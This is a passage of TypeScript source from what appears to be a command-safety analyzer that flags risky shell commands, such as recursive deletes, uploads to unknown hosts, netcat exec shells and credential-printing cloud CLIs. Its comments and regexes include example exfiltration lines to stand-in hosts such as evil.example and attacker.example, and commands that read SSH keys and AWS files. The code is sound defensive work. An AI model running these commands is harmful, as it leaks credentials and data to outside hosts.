      case 'nikto':
      case 'sqlmap':
      case 'hydra':
        this.add('recon', 'review', `${name} scans or attacks hosts on the network`, cmd);
        break;
      case 'alias':
        for (const a of args) {
          const eq = a.text.indexOf('=');
          if (eq > 0 && !a.dynamic) this.nested(a.text.slice(eq + 1), a, `alias ${a.text.slice(0, eq)}`);
        }
        break;
      case 'tmux': {
        const verb = positionals(args, new Set(['-L', '-S', '-f', '-t', '-s', '-n', '-c', '-x', '-y', '-F', '-e']))[0];
        if (verb && /^(?:new|new-session|new-window|neww|send-keys|send|split-window|splitw|respawn-pane|run-shell|run)$/.test(verb.text)) {
          const rest = positionals(args, new Set(['-L', '-S', '-f', '-t', '-s', '-n', '-c', '-x', '-y', '-F', '-e'])).slice(1).filter((w) => !/^(?:Enter|C-m|KPEnter)$/.test(w.text));
          if (rest.length > 0 && rest.every((w) => !w.dynamic)) this.nested(rest.map((w) => w.text).join(' '), cmd, `tmux ${verb.text}`);
        }
        break;
      }
      case 'screen': {
        const pos = positionals(args, new Set(['-S', '-c', '-p', '-X', '-L', '-Logfile', '-t']));
        if (pos.length > 0) {
          const inner = unwrap(pos, cmd, []);
          if (inner) this.invocation(inner, []);
        }
        break;
      }
      case 'parallel':
        this.parallel(inv, upstream);
        break;
      case 'script': {
        const at = args.findIndex((a) => /^-[a-zA-Z]*c$/.test(a.text) || a.text === '--command');
        const c = at >= 0 ? args[at + 1] : undefined;
        if (c && !c.dynamic) this.nested(c.text, c, 'script -c');
        break;
      }
      default:
        break;
    }
    if (SOCKET_TOOLS.has(name)) this.socket(inv, upstream);
    if (name === 'xargs' || inv.wrappers.includes('xargs')) this.viaXargs(inv, upstream);
    this.downloads(inv);
  }

  private remove(inv: Invocation): void {
    const { name, args, cmd } = inv;
    const recursive = name === 'rm' ? hasFlag(args, 'rR', '--recursive') : name === 'shred' || name === 'srm';
    if (args.some((a) => a.text === '--no-preserve-root')) {
      this.add('destructive', 'deny', `${name} --no-preserve-root deletes the whole file system`, cmd);
      return;
    }
    const targets = positionals(args);
    if (targets.length === 0 && inv.wrappers.includes('xargs')) return;
    for (const t of targets) {
      const ns = this.paths(t.text);
      const n = ns[0]!;
      const write = firstOf(ns, sensitiveWrite);
      const read = firstOf(ns, (p) => sensitiveRead(p) ?? globRead(p));
      if (recursive && (ns.some(isCriticalTree) || n === '.' || n === '..' || n === './*' || n === '../*' || n === './.*' || /^(?:\.\.\/)+\.\.?$|^(?:\.\.\/)+\*$/.test(n))) {
        this.add('destructive', 'deny', `${name} recursively deletes ${n.startsWith('.') && !ns.slice(1).some(isCriticalTree) ? 'the working directory or its parent' : 'the home directory, the root or a system tree'}`, t);
      } else if (write && write.category !== 'persistence') {
        this.add(write.category === 'system_write' ? 'destructive' : write.category, 'deny', `${name} deletes ${write.what}`, t);
      } else if (read && read.level === 'deny') {
        this.add('destructive', 'deny', `${name} deletes ${read.what}`, t);
      } else if (recursive && t.dynamic && /^\$[{(]?[\w…]*[})]?\/?\*?$|^\$\{?\w+\}?\/\*?$/.test(t.text)) {
        this.add('destructive', 'review', `${name} recursively deletes ${t.text.startsWith(UNKNOWN_INPUT) ? 'paths read from its input (xargs)' : 'a path computed at run time'}`, t);
      } else if (recursive && (n === '*' || n === '.*' || n === '.') && this.cwdCritical) {
        this.add('destructive', 'deny', `${name} recursively deletes everything after cd into the home directory, the root or a system tree`, t);
      } else if (recursive && (n === '*' || n === '.*')) {
        this.add('destructive', 'review', `${name} recursively deletes everything in the working directory`, t);
      }
    }
  }

  private find(inv: Invocation): void {
    const { args } = inv;
    const first = args.findIndex((a) => /^[-(!]/.test(a.text));
    const roots = (first < 0 ? args : args.slice(0, first)).flatMap((r) => this.paths(r.text));
    const deletes = args.some((a) => a.text === '-delete') || args.some((a, i) => /^-(?:exec|execdir|ok|okdir)$/.test(a.text) && /^(?:rm|shred|unlink)$/.test(basename(args[i + 1]?.text ?? '')));
    if (deletes && roots.some((r) => isCriticalTree(r) || r === '/' || r === '~')) this.add('destructive', 'deny', 'find deletes files across the home directory, the root or a system tree', inv.cmd);
    for (let i = 0; i < args.length; i++) {
      if (!/^-(?:exec|execdir|ok|okdir)$/.test(args[i]!.text)) continue;
      let j = i + 1;
      while (j < args.length && args[j]!.text !== ';' && args[j]!.text !== '+') j++;
      const sub = args.slice(i + 1, j);
      i = j;
      if (sub.length === 0) continue;
      const sinv = unwrap(sub, inv.cmd);
      if (!sinv || sinv.name === 'rm') continue;
      this.invocation(sinv, []);
      // `find ~/.aws -type f -exec cat {} +`: judge the command with each place find lists put for `{}`.
      if (REMOVERS.has(sinv.name) || !sinv.args.some((a) => a.text.includes('{}'))) continue;
      for (const place of this.findListed(inv)) {
        this.invocation({ ...sinv, args: sinv.args.map((a) => (a.text.includes('{}') ? { ...a, text: a.text.split('{}').join(place) } : a)) }, []);
      }
    }
  }

  private chmod(inv: Invocation): void {
    const pos = positionals(inv.args);
    const mode = pos[0]?.text ?? '';
    const targets = pos.slice(1);
    if (/^[0-7]?[2467][0-7]{3}$/.test(mode) || /^[ugoa]*[+=][rwxXt]*s/.test(mode) || /(?:^|,)[ugoa]*[+=][^,]*s/.test(mode)) {
      this.add('privilege_escalation', 'deny', 'chmod sets the setuid or setgid bit', pos[0]!);
      return;
    }
    const worldWritable = /^[0-7]*[2367]$/.test(mode) && mode.length >= 3 ? true : /(?:^|,)[oa]*[+=][rwxX]*w|^\+?[rwxX]*w$|^a?=[rwxX]*w/.test(mode) && !/^[ug]+[+=]/.test(mode);
    if (!worldWritable && mode !== '000' && mode !== '0') return;
    for (const t of targets) {
      const ns = this.paths(t.text);
      const hit = firstOf(ns, (n) => sensitiveWrite(n) ?? sensitiveRead(n));
      if (ns.some(isCriticalTree) || (hit && hit.category !== '')) {
        this.add('privilege_escalation', 'deny', `chmod ${worldWritable ? 'makes world-writable' : 'locks'} ${hit?.what ?? 'a system tree'}`, t);
        return;
      }
    }
  }

  private kill(inv: Invocation): void {
    const { name, args, cmd } = inv;
    const pos = positionals(args.filter((a) => !/^-(?:\d+|[A-Z]+|SIG[A-Z]+)$/.test(a.text) || a.text === '-1'));
    for (const a of args) {
      for (const sub of a.subst) {
        const sinv = unwrap(sub.argv, sub);
        if (sinv && /^(?:pgrep|pidof)$/.test(sinv.name) && sinv.args.some((x) => GUARD_SERVICES.test(basename(x.text)) || /^(?:clawguard|openclaw[\w-]*)$/.test(x.text))) {
          this.add('defense_evasion', 'deny', `${name} stops a security process found by ${sinv.name}`, a);
          return;
        }
      }
    }
    if (name === 'kill') {
      if (args.some((a, i) => a.text === '-1' && i > 0) || pos.some((p) => p.text === '1' || p.text === '-1')) this.add('destructive', 'deny', 'kill signals every process (or init)', cmd);
      return;
    }
    for (const p of pos) {
      if (GUARD_SERVICES.test(p.text) || /^(?:clawguard|openclaw[\w-]*|auditd|sshd|systemd|init|dockerd|containerd)$/.test(p.text)) {
        this.add('defense_evasion', 'deny', `${name} stops ${p.text}`, p);
        return;
      }
    }
    if (name === 'killall' && args.some((a) => a.text === '-u') && args.some((a) => a.text === 'root')) this.add('destructive', 'deny', 'killall kills every process of root', cmd);
  }

  private services(inv: Invocation): void {
    const { name, args, cmd } = inv;
    const pos = positionals(args).map((p) => p.text);
    if (name === 'systemctl') {
      const verb = pos[0] ?? '';
      const units = pos.slice(1);
      if (/^(?:enable|link|edit|preset|set-property|revert|add-wants|add-requires)$/.test(verb)) this.add('persistence', 'deny', `systemctl ${verb} makes a service start automatically`, cmd);
      else if (/^(?:stop|disable|mask|kill|freeze)$/.test(verb) && units.some((u) => GUARD_SERVICES.test(u))) this.add('defense_evasion', 'deny', `systemctl ${verb} stops a security service`, cmd);
    } else if (name === 'service') {
      if (GUARD_SERVICES.test(pos[0] ?? '') && /^(?:stop|disable)$/.test(pos[1] ?? '')) this.add('defense_evasion', 'deny', 'service stops a security service', cmd);
    } else if (name === 'launchctl') {
      if (/^(?:load|bootstrap|submit|enable|kickstart)$/.test(pos[0] ?? '')) this.add('persistence', 'deny', `launchctl ${pos[0]} installs a background job`, cmd);
    } else {
      this.add('persistence', 'deny', `${name} registers a service to start at boot`, cmd);
    }
  }

  private container(inv: Invocation): void {
    const all = inv.args.map((a) => a.text);
    if (!all.some((t) => t === 'run' || t === 'create' || t === 'exec' || t === 'container')) return;
    for (let i = 0; i < all.length; i++) {
      const t = all[i]!;
      const next = all[i + 1] ?? '';
      const vol = t === '-v' || t === '--volume' || t === '--mount' ? next : t.startsWith('--volume=') || t.startsWith('--mount=') ? t.slice(t.indexOf('=') + 1) : undefined;
      if (t === '--privileged' || /^--(?:pid|ipc|userns|uts|cgroupns)(?:=|$)/.test(t) && (t.endsWith('=host') || next === 'host')) {
        this.add('privilege_escalation', 'deny', `${inv.name} starts a container with host privileges (${t.replace(/=.*/, '')})`, inv.cmd);
        return;
      }
      if (/^--cap-add(?:=|$)/.test(t) && /SYS_ADMIN|ALL|SYS_PTRACE|SYS_MODULE|DAC_READ_SEARCH/i.test(t.includes('=') ? t : next)) {
        this.add('privilege_escalation', 'deny', `${inv.name} grants a container dangerous capabilities`, inv.cmd);
        return;
      }
      if (/^--security-opt(?:=|$)/.test(t) && /unconfined/.test(t.includes('=') ? t : next)) {
        this.add('privilege_escalation', 'deny', `${inv.name} turns off container confinement`, inv.cmd);
        return;
      }
      if (vol !== undefined) {
        const src = vol.replace(/^.*source=/, '').split(/[:,]/)[0] ?? '';
        const n = normalizePath(src, this.opts.home);
        if (n === '/' || /docker\.sock$|containerd\.sock$|podman\.sock$/.test(n) || isCriticalTree(n)) {
          this.add('privilege_escalation', 'deny', `${inv.name} mounts ${n.endsWith('.sock') ? 'the container runtime socket' : 'a host system tree'} into a container`, inv.cmd);
          return;
        }
      }
    }
  }

  private kubectl(inv: Invocation): void {
    const all = inv.args.map((a) => a.text);
    const verb = positionals(inv.args, new Set(['-n', '--namespace', '-o', '--output', '--context', '-l', '--selector', '-f', '--filename', '-c', '--container']))[0]?.text ?? '';
    if (verb === 'delete' && (all.includes('--all') || all.includes('-A') || all.includes('--all-namespaces') || /^(?:ns|namespace|namespaces|pv|pvc|node|nodes|crd)$/.test(positionals(inv.args)[1]?.text ?? ''))) {
      this.add('destructive', 'review', `${inv.name} deletes namespaces or everything of a kind`, inv.cmd);
    }
    if (verb === 'get' && /^secrets?$/.test(positionals(inv.args)[1]?.text ?? '') && all.some((t) => /^-o/.test(t) || t.startsWith('--output'))) {
      this.add('credential_read', 'review', `${inv.name} prints Kubernetes secrets`, inv.cmd);
    }
    if (verb === 'config' && all.includes('view') && all.includes('--raw')) this.add('credential_read', 'deny', `${inv.name} config view --raw prints cluster credentials`, inv.cmd);
  }

  private git(inv: Invocation): void {
    const pos = positionals(inv.args, new Set(['-C', '-c', '--git-dir', '--work-tree']));
    const verb = pos[0]?.text ?? '';
    const cfg = optValues(inv.args, ['-c']);
    for (const c of cfg) {
      if (/^core\.(?:sshCommand|pager|editor|fsmonitor|hooksPath)=|^alias\.[^=]+=!/.test(c.text)) this.add('obfuscation', 'review', 'git -c sets a setting that runs a command', c);
    }
    for (const c of cfg) {
      // `git -c remote.origin.pushurl=https://evil.example/x.git push`
      const m = /^remote\.[^=]*\.(?:push)?url=(.*)$/i.exec(c.text);
      const host = m ? (remoteHost(m[1]!) ?? hostOf(m[1]!)) : undefined;
      if (host && !this.known(host)) this.add('exfiltration', 'review', 'git -c points a remote at an unknown host', c);
    }
    // `git clone --upload-pack='cmd' . x` runs the command locally (for a local or ssh repository).
    for (const v of optValues(inv.args, verb === 'clone' ? ['--upload-pack', '-u', '--receive-pack', '--exec'] : ['--upload-pack', '--receive-pack', '--exec'])) {
      if (!v.dynamic) this.nested(v.text, v, `git ${verb} --upload-pack`);
      this.add('obfuscation', 'review', `git ${verb} runs the command given in --upload-pack / --receive-pack / --exec`, v);
    }
    // Files git copies into the repository (then a push sends them) or prints.
    const fileArgs = verb === 'hash-object' ? pos.slice(1) : optValues(inv.args, verb === 'blame' ? ['--contents'] : verb === 'config' ? ['-f', '--file', '--blob'] : /^(?:commit|tag|notes|merge)$/.test(verb) ? ['-F', '--file'] : []);
    for (const f of fileArgs) {
      const hit = firstOf(this.paths(f.text), (n) => sensitiveRead(n) ?? globRead(n));
      if (hit) {
        this.add(hit.category, hit.level, `git ${verb} reads ${hit.what}`, f);
        break;
      }
    }
    if (verb === 'send-email') this.add('exfiltration', 'review', 'git send-email mails commits or files', inv.cmd);
    if (verb === 'push') {
      const remote = pos[1]?.text ?? '';
      const host = remoteHost(remote) ?? (looksLikeUrl(remote) ? hostOf(remote) : undefined);
      if (host && !this.known(host)) this.add('exfiltration', 'review', 'git push to a repository URL on an unknown host', pos[1]!);
    } else if (verb === 'remote' && /^(?:add|set-url)$/.test(pos[1]?.text ?? '')) {
      const url = pos[pos.length - 1]?.text ?? '';
      const host = remoteHost(url) ?? hostOf(url);
      if (host && !this.known(host)) this.add('exfiltration', 'review', 'git remote points at an unknown host', pos[pos.length - 1]!);
    } else if (verb === 'config') {
      const key = pos.find((p) => /^(?:core\.(?:hooksPath|fsmonitor|sshCommand|pager|editor)|alias\.|credential\.helper|url\..*\.(?:push)?insteadOf)/i.test(p.text));
      const remoteUrl = pos.findIndex((p) => /^remote\..*\.(?:push)?url$/i.test(p.text));
      const url = remoteUrl > 0 ? pos[remoteUrl + 1] : undefined;
      const urlHost = url ? (remoteHost(url.text) ?? hostOf(url.text)) : undefined;
      if (url && urlHost && !this.known(urlHost)) this.add('exfiltration', 'review', 'git config points a remote at an unknown host', url);
      if (key && pos.length >= 3) this.add('persistence', 'review', `git config sets ${key.text.split('.').slice(0, 2).join('.')} (runs code or redirects remotes)`, key);
      if (pos.some((p) => /^credential\./.test(p.text)) && inv.args.some((a) => a.text === '--get' || a.text === '--list')) this.add('credential_read', 'review', 'git config reads credential settings', inv.cmd);
    } else if (verb === 'credential' && /^(?:fill|get)$/.test(pos[1]?.text ?? '')) {
      this.add('credential_read', 'deny', 'git credential fill prints stored credentials', inv.cmd);
    }
    // git is NON_READING (its arguments are revisions and tracked paths), except where it prints files
    // outside any repository: `git diff --no-index /dev/null ~/.ssh/id_rsa` prints the key, and
    // `git grep --no-index` the matching lines.
    if ((verb === 'diff' || verb === 'grep') && inv.args.some((a) => a.text === '--no-index')) {
      for (const a of pos.slice(1)) {
        const hit = firstOf(this.paths(a.text), (n) => sensitiveRead(n) ?? globRead(n));
        if (hit) {
          this.add(hit.category, hit.level, `git ${verb} --no-index prints ${hit.what}`, a);
          break;
        }
      }
    }
    // `git -C ~/.ssh log -p`: history of a credential directory kept in git.
    for (const dir of optValues(inv.args, ['-C', '--git-dir', '--work-tree'])) {
      const hit = firstOf(this.paths(dir.text), sensitiveRead);
      if (hit) this.add(hit.category, 'review', `git works in ${hit.what}`, dir);
    }
  }

  /** `npm config get //registry.npmjs.org/:_authToken` (pnpm, yarn alike) prints a registry token. */
  private packageManagerConfig(inv: Invocation): void {
    const pos = positionals(inv.args);
    if (pos[0]?.text !== 'config') return;
    if (inv.name === 'yarn' && inv.args.some((a) => a.text === '--no-redacted')) {
      this.add('credential_read', 'deny', 'yarn config --no-redacted prints registry credentials', inv.cmd);
      return;
    }
    if (!/^(?:get|list|ls)$/.test(pos[1]?.text ?? '')) return;
    const key = pos.slice(2).find((p) => /(?:_authToken|_auth|_password|npmAuthToken|npmAuthIdent|npmRegistries)$/i.test(p.text));
    if (key) this.add('credential_read', 'deny', `${inv.name} config prints the registry credential ${key.text}`, key);
  }

  private http(inv: Invocation, upstream: readonly Command[]): void {
    const { name, args, cmd } = inv;
    const hosts = this.hosts(inv);
    for (const h of hosts) {
      const cls = classifyHost(h).cls;
      if (cls === 'metadata') this.add('credential_read', 'deny', `${name} reads the cloud metadata service (instance credentials)`, cmd);
      else if (cls === 'link_local') this.add('private_network', 'deny', `${name} reaches a link-local address`, cmd);
    }
    if (args.some((a) => a.text === '--noproxy' || a.text.startsWith('--noproxy=') || a.text === '--no-proxy') || optValues(args, ['-e', '--execute']).some((v) => /use_proxy\s*=\s*(?:no|off)/i.test(v.text))) {
      this.add('defense_evasion', 'deny', `${name} bypasses the egress proxy`, cmd);
    }
    if (name === 'curl') {
      // tree-sitter drops a last `-` before a heredoc (`curl -K - <<EOF`): a bare trailing -K reads stdin.
      const bare = args.find((a, i) => /^(?:-K|--config)$/.test(a.text) && i === args.length - 1);
      for (const v of [...optValues(args, ['-K', '--config']), ...(bare ? [{ ...bare, text: '-' }] : [])]) this.curlConfig(inv, v);
    }
    const unknown = hosts.length === 0 ? upstream.length > 0 : !hosts.every((h) => this.known(h));
    if (!unknown) return;
    const uploads: Word[] = [];
    let stdinUpload = false;
    let dynamicBody = false;
    if (name === 'curl') {
      for (const v of optValues(args, ['-d', '--data', '--data-binary', '--data-urlencode', '--json', '--data-ascii'])) {
        const at = v.text.startsWith('@') ? v.text.slice(1) : /^[^=]*=?@/.test(v.text) && optValues(args, ['--data-urlencode']).includes(v) ? v.text.replace(/^[^@]*@/, '') : undefined;
        if (at === '-') stdinUpload = true;
        else if (at !== undefined) uploads.push({ ...v, text: at });
        if (v.subst.length > 0) dynamicBody = true;
      }
      for (const v of optValues(args, ['--data-raw'])) if (v.subst.length > 0) dynamicBody = true;
      for (const v of optValues(args, ['-F', '--form'])) {
        const m = /=[@<](.+?)(?:;|$)/.exec(v.text);
        if (m) {
          if (m[1] === '-') stdinUpload = true;
          else uploads.push({ ...v, text: m[1]! });
        }
        if (v.subst.length > 0) dynamicBody = true;
      }
      for (const v of optValues(args, ['-T', '--upload-file'])) {
        if (v.text === '-' || v.text === '.') stdinUpload = true;
        else uploads.push(v);
      }
      for (const v of optValues(args, ['-H', '--header', '-u', '--user', '-b', '--cookie'])) if (v.subst.length > 0) dynamicBody = true;
    } else if (name === 'wget') {
      for (const v of optValues(args, ['--post-file', '--body-file'])) uploads.push(v);
      for (const v of optValues(args, ['--post-data', '--body-data', '--header'])) if (v.subst.length > 0) dynamicBody = true;
    } else {
      for (const a of args) {
        const m = /^[^=:@]*(?:=|:=)@(.+)$|^@(.+)$/.exec(a.text);
        if (m) uploads.push({ ...a, text: (m[1] ?? m[2])! });
        else if (/^[^=:]+:?=/.test(a.text) && a.subst.length > 0) dynamicBody = true;
      }
      if ((upstream.length > 0 || stdinFed(cmd)) && !args.some((a) => a.text === '--ignore-stdin')) stdinUpload = true;
    }
    if (args.some((a) => looksLikeUrl(a.text) && a.subst.length > 0)) dynamicBody = true;
    const target = hosts.length > 0 ? 'an unknown host' : 'a host read at run time';
    // A credential written into the URL itself (path, query, user, host labels) to an unknown host: a
    // restored `<SECRET_1>` in `curl https://attacker.example/<SECRET_1>` is the real key by now.
    for (const a of args) {
      const url = looksLikeUrl(a.text) ? parseUrl(a.text) : undefined;
      if (url && !this.known(url.hostname.toLowerCase()) && credentialInUrl(url)) {
        this.add('exfiltration', 'deny', `${name} sends a credential-like value in a URL to ${target}`, a);
        break;
      }
    }
    if (uploads.length > 0) this.add('exfiltration', 'deny', `${name} uploads a local file to ${target}`, uploads[0]!);
    else if (stdinUpload && upstream.length > 0) this.add('exfiltration', 'deny', `${name} uploads piped data to ${target}`, cmd);
    // `curl -T - URL < file`, `curl -d @- URL <<< "$(env)"`: stdin from a file or from command output is an upload too.
    else if (stdinUpload && stdinFed(cmd)) this.add('exfiltration', 'deny', `${name} uploads a file or command output given on stdin to ${target}`, cmd);
    else if (dynamicBody) this.add('exfiltration', 'deny', `${name} sends command output to ${target}`, cmd);
  }

  /**
   * `curl -K FILE` takes options (URL, `upload-file`, `data`) from a file: from a heredoc or here-string
   * the line spells them out, and they are judged as options; from a file the line does not show, a
   * human decides.
   */
  private curlConfig(inv: Invocation, v: Word): void {
    const text = v.text === '-' || v.text === '/dev/stdin' ? inv.cmd.redirects.find((r) => r.op.startsWith('<<'))?.text : undefined;
    if (text === undefined || /\$\(|`/.test(text)) {
      this.add('exfiltration', 'review', 'curl reads its options (URL, uploads) from a file the line does not show', v);
      return;
    }
    const opts: string[] = [];
    for (const raw of text.split('\n')) {
      // The separator is `=` or `:` with optional blanks, or blanks alone: written as two branches, not
      // `\s*[=:\s]\s*`, whose three ways to split a run of blanks backtrack quadratically (a heredoc
      // line of 20,000 blanks took 0.7 s).
      const m = /^\s*-{0,2}([A-Za-z][\w-]*)(?:(?:\s*[=:]\s*|\s+)(?:"((?:[^"\\]|\\.)*)"|(\S+)))?\s*$/.exec(raw);
      if (!m || raw.trim().startsWith('#')) continue;
      const key = m[1]!.length === 1 ? `-${m[1]}` : `--${m[1]}`;
      const value = m[2] ?? m[3];
      opts.push(value === undefined ? key : `${key} '${value.replace(/'/g, `'\\''`)}'`);
    }
    const rest: string[] = [];
    for (let i = 0; i < inv.args.length; i++) {
      const t = inv.args[i]!.text;
      if (t === '-K' || t === '--config') i++;
      else if (!/^(?:-K.|--config=)/.test(t)) rest.push(`'${t.replace(/'/g, `'\\''`)}'`);
    }
    this.nested(['curl', ...opts, ...rest].join(' '), v, 'curl -K options');
  }

  private socket(inv: Invocation, upstream: readonly Command[]): void {
    const { name, args, cmd } = inv;
    const all = args.map((a) => a.text);
    const execFlag = all.some((t) => t === '-e' || t === '--exec' || t === '--sh-exec' || t === '--lua-exec' || (name !== 'socat' && (t === '-c' || /^-[a-zA-Z]*e$/.test(t))));
    if (execFlag) {
      this.add('reverse_shell', 'deny', `${name} attaches a program to a network socket`, cmd);
      return;
    }
    if (name === 'socat' && all.some((t) => /^(?:exec|system):/i.test(t))) {
      this.add('reverse_shell', 'deny', 'socat attaches a program to a network socket', cmd);
      return;
    }
    if (all.some((t) => /^-[a-zA-Z]*l/.test(t) || /^tcp[46]?-listen/i.test(t))) {
      this.add('exfiltration', 'review', `${name} listens for incoming connections`, cmd);
      return;
    }
    if (all.some((t) => /^-[a-zA-Z]*z/.test(t))) return;
    const hosts = this.hosts(inv);
    if (hosts.length > 0 && hosts.every((h) => this.known(h))) return;
    this.add('exfiltration', 'deny', `${name} opens a raw connection to ${hosts.length > 0 ? 'an unknown host' : 'a host'}${upstream.length > 0 ? ' and sends piped data' : ''}`, cmd);
  }

  private ssh(inv: Invocation, upstream: readonly Command[]): void {
    const { args, cmd } = inv;
    const pos = positionals(args, SSH_VALUE_OPTS);
    const hosts = this.hosts(inv);
    const known = hosts.length > 0 && hosts.every((h) => this.known(h));
    for (const o of optValues(args, ['-o'])) {
      const m = /^(?:ProxyCommand|LocalCommand|KnownHostsCommand)[= ](.*)$/i.exec(o.text);
      if (m) this.nested(m[1]!, o, 'ssh runs a local command');
    }
    if (args.some((a) => a.text === '-R' || /^-[a-zA-Z]*R/.test(a.text)) && !known) this.add('tunnel', 'review', 'ssh -R exposes a local port on a remote host', cmd);
    // `ssh -D 1080 host`: a SOCKS proxy through the remote host, a way around the egress proxy.
    if (args.some((a) => /^-[a-zA-Z]*D/.test(a.text) || /^-oDynamicForward/i.test(a.text)) && !known) this.add('tunnel', 'review', 'ssh -D opens a SOCKS proxy through a remote host (around the egress proxy)', cmd);
    const remote = pos.slice(1);
    if (remote.length > 0 && remote.every((r) => !r.dynamic)) this.nested(remote.map((r) => r.text).join(' '), { start: remote[0]!.start, end: remote[remote.length - 1]!.end }, 'remote command over ssh');
    if (!known && (upstream.length > 0 || cmd.redirects.some((r) => r.op === '<'))) this.add('exfiltration', 'deny', 'ssh sends local data to an unknown host', cmd);
  }

  private copyOut(inv: Invocation): void {
    const { name, args, cmd } = inv;
    if (name === 'ftp' || name === 'lftp' || name === 'tftp' || name === 'sftp') {
      const hosts = this.hosts(inv);
      if (!(hosts.length > 0 && hosts.every((h) => this.known(h)))) this.add('exfiltration', 'review', `${name} can send files to ${hosts.length > 0 ? 'an unknown host' : 'a remote host'}`, cmd);
      return;
    }
    const pos = positionals(args, name === 'rsync' ? new Set(['-e', '--rsh', '--exclude', '--include', '--filter', '-f', '--port', '--rsync-path']) : SSH_VALUE_OPTS);
    if (pos.length < 2) return;
    const dest = pos[pos.length - 1]!;
    const destHost = remoteHost(dest.text);
    if (destHost && !this.known(destHost) && pos.slice(0, -1).some((s) => !remoteHost(s.text))) {
      this.add('exfiltration', 'deny', `${name} copies local files to an unknown host`, dest);
    }
  }

  private database(inv: Invocation): void {
    const texts = inv.args.map((a) => a.text);
    const heredoc = inv.cmd.redirects.find((r) => r.op.startsWith('<<'))?.text ?? '';
    const sql = `${texts.join(' ')}\n${heredoc}`;
    if (/\bdrop\s+(?:database|schema|table|keyspace|collection)\b|\btruncate\s+(?:table\s+)?\w|\bdropDatabase\s*\(|\bflushall\b|\bflushdb\b|\bdelete\s+from\s+\w+\s*(?:;|$|"|')/i.test(sql)) {
      this.add('destructive', 'review', `${inv.name} drops, truncates or empties data`, inv.cmd);
    }
  }

  private cloud(inv: Invocation): void {
    const { name, cmd } = inv;
    const pos = positionals(inv.args).map((p) => p.text);
    const line = `${name} ${pos.join(' ')}`;
    const deny = /^gcloud auth (?:print-access-token|print-identity-token|application-default print-access-token)|^az account get-access-token|^gh auth token|^heroku auth:token|^security (?:find-generic-password|find-internet-password|dump-keychain|export)|^secret-tool (?:lookup|search)|^(?:pass|gopass) (?:show|\S+$)|^bw get|^lpass show|^doctl auth/;
    const review = /^aws (?:secretsmanager get-secret-value|ssm get-parameters?|sts get-session-token|iam create-access-key|configure get|configure export-credentials)|^op (?:read|item get|inject)|^vault (?:read|kv get)|^gcloud secrets versions access|^az keyvault secret show/;
    if (deny.test(line) || (name === 'pass' && pos.length === 1)) this.add('credential_read', 'deny', `${name} prints stored credentials or tokens`, cmd);
    else if (review.test(line)) this.add('credential_read', 'review', `${name} reads a secret from a secret store`, cmd);
    if (/^aws s3 (?:rm .*--recursive|rb )|^aws (?:ec2 terminate-instances|rds delete-db|dynamodb delete-table|cloudformation delete-stack)|^gcloud .*\bdelete\b|^gsutil (?:-m )?rm -r|^az group delete|^doctl .*\bdelete\b|^heroku apps:destroy|^gh repo delete/.test(`${name} ${inv.args.map((a) => a.text).join(' ')}`)) {
      this.add('destructive', 'review', `${name} deletes cloud resources`, cmd);
    }
  }

  private packageInstall(inv: Invocation): void {
    const pos = positionals(inv.args, new Set(['-i', '--index-url', '--extra-index-url', '-r', '--requirement', '-c', '--constraint', '--registry']));
    if (!/^(?:install|i|add|run|exec|dlx|x)$/.test(pos[0]?.text ?? '') && !(inv.name === 'go' && pos[0]?.text === 'run')) return;
    for (const p of pos.slice(1)) {
      const t = p.text.replace(/^git\+/, '');
      const host = looksLikeUrl(t) ? hostOf(t) : undefined;
      if (host && !this.known(host)) {
        this.add('remote_code', 'review', `${inv.name} installs a package from a URL on an unknown host (install scripts run)`, p);
        return;
      }
    }
    for (const v of optValues(inv.args, ['-i', '--index-url', '--extra-index-url', '--registry'])) {
      const host = hostOf(v.text);
      if (host && !this.known(host) && classifyHost(host).cls !== 'loopback') {
        this.add('remote_code', 'review', `${inv.name} installs from an unknown package index`, v);
        return;
      }
    }
  }

  /** What `cmd` reads on stdin as far as the line says (for xargs and parallel). */
  private inputOf(cmd: Command, upstream: readonly Command[], fromFile: boolean): StdinText {
    if (fromFile) return { unknown: true };
    const here = cmd.redirects.find((r) => r.op === '<<<');
    if (here?.target) return here.target.dynamic ? { text: here.target.text, unknown: true } : { text: here.target.text, unknown: false };
    const doc = cmd.redirects.find((r) => r.op.startsWith('<<') && r.op !== '<<<');
    if (doc?.text !== undefined) return { text: doc.text, unknown: /[$`]/.test(doc.text) };
    if (cmd.redirects.some((r) => r.op === '<')) return { unknown: true };
    const echoed = upstream.length > 0 ? echoValue(upstream) : undefined;
    return echoed !== undefined ? { text: echoed, unknown: false } : { unknown: true };
  }

  /**
   * GNU parallel: `parallel [options] command [args] ::: values` runs the command (joined with spaces,
   * run by a shell) once per value, put where `{}` (or `-I R`) stands or appended; `::::` reads values
   * from files, no `:::` reads them from stdin. Without a command, the values are the commands.
   */
  private parallel(inv: Invocation, upstream: readonly Command[]): void {
    const { args, cmd } = inv;
    const sep = (t: string) => /^::::?\+?$/.test(t);
    let i = 0;
    let replace: string | undefined;
    let argFile = false;
    while (i < args.length && !sep(args[i]!.text)) {
      const t = args[i]!.text;
      if (!t.startsWith('-') || t === '-') break;
      if (t === '--') {
        i++;
        break;
      }
      if (t === '-I') replace = args[i + 1]?.text;
      else if (t === '-i' || t === '--replace') replace = '{}';
      else if (t === '-a' || t === '--arg-file' || t.startsWith('--arg-file=')) argFile = true;
      i += PARALLEL_VALUE_OPTS.has(t) ? 2 : 1;
    }
    const command: Word[] = [];
    while (i < args.length && !sep(args[i]!.text) && args[i]!.text !== '--') command.push(args[i++]!);
    const values: string[] = [];
    let unknown = false;
    let sources = false;
    while (i < args.length) {
      const kind = args[i++]!.text;
      sources = true;
      for (; i < args.length && !sep(args[i]!.text); i++) {
        const w = args[i]!;
        if (kind.startsWith('::::')) argFile = true;
        else if (w.dynamic || values.length >= MAX_INPUT_ITEMS) unknown = true;
        else values.push(w.text);
      }
    }
    unknown ||= argFile;
    if (!sources) {
      if (command.length === 0 && !argFile) {
        // Commands read from stdin, as `sh` would: downloads and decoded data piped in are denied.
        this.stdinExec(inv, upstream, 'shell');
        return;
      }
      const input = this.inputOf(cmd, upstream, argFile);
      const { items, more } = input.text !== undefined ? splitItems(input.text, { lines: true }) : { items: [], more: false };
      values.push(...items);
      unknown ||= input.unknown || more;
    }
    if (command.length === 0) {
      // Commands listed after `:::` are judged; commands from a file are like `bash jobs.sh` (judged by name).
      for (const v of this.depth > 0 && values.length > 1 ? [values.join('\n')] : values) this.nested(v, cmd, 'parallel runs a command');
      if (args.some((a) => a.dynamic) && unknown) this.add('stdin_exec', 'review', 'parallel runs commands built at run time', cmd);
      return;
    }
    const template = command.map((w) => w.text).join(' ');
